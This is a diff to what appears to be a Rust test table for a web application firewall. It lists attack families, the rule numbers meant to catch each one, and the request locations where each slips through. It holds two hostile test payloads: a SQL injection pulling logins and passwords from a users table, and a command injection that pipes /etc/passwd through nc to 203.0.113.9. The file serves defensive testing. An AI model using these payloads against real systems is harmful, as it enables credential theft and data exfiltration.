@@ -49,7 +49,7 @@ const FAMILIES: &[Family] = &[
         name: "SQL injection",
         rules: &[942],
         payload: "1' UNION SELECT login, password FROM users-- -",
-        passes: &[(Path, "no 942 rule reads the path before paranoia level 2")],
+        passes: &[],
         impossible: &[],
     },
     Family {
@@ -68,11 +68,10 @@ const FAMILIES: &[Family] = &[
     },
     Family {
         name: "command injection",
-        // The name of the file in it is what gives it away in a cookie.
-        rules: &[932, 930],
+        // The name of the file in it is what gives it away in a cookie, and the separator in a path (100041).
+        rules: &[932, 930, 100],
         payload: "; cat /etc/passwd | nc 203.0.113.9 4444",
         passes: &[
-            (Path, "932160 reads arguments, not the path"),
             (UserAgent, "932 rules read headers from paranoia level 2 on"),
             (Referer, "932 rules read headers from paranoia level 2 on"),
         ],
